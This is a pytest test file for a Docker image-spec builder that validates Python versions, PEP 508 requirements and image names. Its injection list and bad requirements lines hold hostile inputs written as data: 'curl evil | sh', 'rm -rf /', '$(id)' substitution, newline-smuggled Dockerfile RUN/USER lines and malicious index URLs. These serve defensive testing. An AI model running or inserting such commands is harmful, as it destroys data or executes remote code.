"""Specs refuse everything but supported Pythons, PEP 508 requirements and valid names."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from neuralis.docker.spec import (
    PYTHON_VERSIONS,
    ImageSpec,
    make_spec,
    parse_package,
    read_requirements,
)
from neuralis.errors import InvalidInput, InvalidName, InvalidPackage

INJECTIONS = [
    "numpy\nRUN curl evil | sh",
    "numpy\r\nUSER root",
    "numpy; rm -rf /",
    "numpy && curl x",
    "$(id)",
    "`id`",
    "numpy==1.0 | sh",
    "numpy>=1 > /etc/passwd",
    "--index-url=https://evil/simple",
    "-e git+https://evil/x",
    "x @ https://e.com/$HOME.whl",
    "x @ https://e.com/a'b.whl",
    'numpy" ]\nRUN ["id',
    "numpy\\\nRUN id",
    "",
    "   ",
    "a" * 400,
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_attempts_are_refused(text: str) -> None:
    with pytest.raises(InvalidPackage):
        parse_package(text)


@pytest.mark.parametrize(
    ("text", "canonical"),
    [
        ("numpy", "numpy"),
        ("pandas>=2,<3", "pandas<3,>=2"),
        ("requests[socks]==2.31", "requests[socks]==2.31"),
        ("numpy; python_version < '3.12'", 'numpy; python_version < "3.12"'),
        (
            "x @ https://example.com/x-1.0-py3-none-any.whl",
            "x@ https://example.com/x-1.0-py3-none-any.whl",
        ),
    ],
)
def test_requirements_are_rendered_from_their_parsed_form(text: str, canonical: str) -> None:
    assert parse_package(text).replace(" @", "@") == canonical.replace(" @", "@")


def test_python_versions_outside_the_list_are_refused_with_the_list() -> None:
    assert PYTHON_VERSIONS == ("3.7", "3.8", "3.9", "3.10", "3.11", "3.12", "3.13")
    for bad in ("3.6", "3.14", "2.7", "3", "latest", "3.11; id"):
        with pytest.raises(InvalidInput, match=re.escape("3.7, 3.8, 3.9, 3.10, 3.11, 3.12, 3.13")):
            make_spec(bad, [])


@pytest.mark.parametrize("name", ["", "-x", "X", "a b", "a/b", "a" * 64, "é", "a:b", "a$b"])
def test_bad_names_are_refused(name: str) -> None:
    with pytest.raises(InvalidName):
        make_spec("3.11", [], name=name)


def test_spec_defaults_a_name_and_dedupes_packages() -> None:
    spec = make_spec("3.11", ["six", "six", "numpy<3"])
    assert spec.packages == ("six", "numpy<3")
    assert spec.name.startswith("py311-")
    assert make_spec("3.11", ["six", "numpy<3"]).name == spec.name
    assert make_spec("3.11", ["six"]).name != spec.name
    assert ImageSpec("a", "3.11", ("six",)).digest() == ImageSpec("b", "3.11", ("six",)).digest()


def test_requirements_file_lines_are_parsed_the_same_way(tmp_path: Path) -> None:
    good = tmp_path / "req.txt"
    good.write_text("# tools\nsix==1.16.0  # pinned\n\nnumpy<3\n")
    assert read_requirements(good) == ["six==1.16.0", "numpy<3"]
    spec = make_spec("3.12", ["tabulate"], requirements=good, name="k1")
    assert spec.packages == ("tabulate", "six==1.16.0", "numpy<3")
    for bad_line in ("-r other.txt", "--extra-index-url https://evil", "six; $(id)", "six`id`"):
        bad = tmp_path / "bad.txt"
        bad.write_text(f"six\n{bad_line}\n")
        with pytest.raises(InvalidPackage, match=re.escape("bad.txt:2")):
            read_requirements(bad)
    with pytest.raises(InvalidInput, match="Cannot read"):
        read_requirements(tmp_path / "missing.txt")


def test_messages_are_one_line() -> None:
    with pytest.raises(InvalidPackage) as info:
        parse_package("numpy==1.0 # comment")
    assert "\n" not in str(info.value)
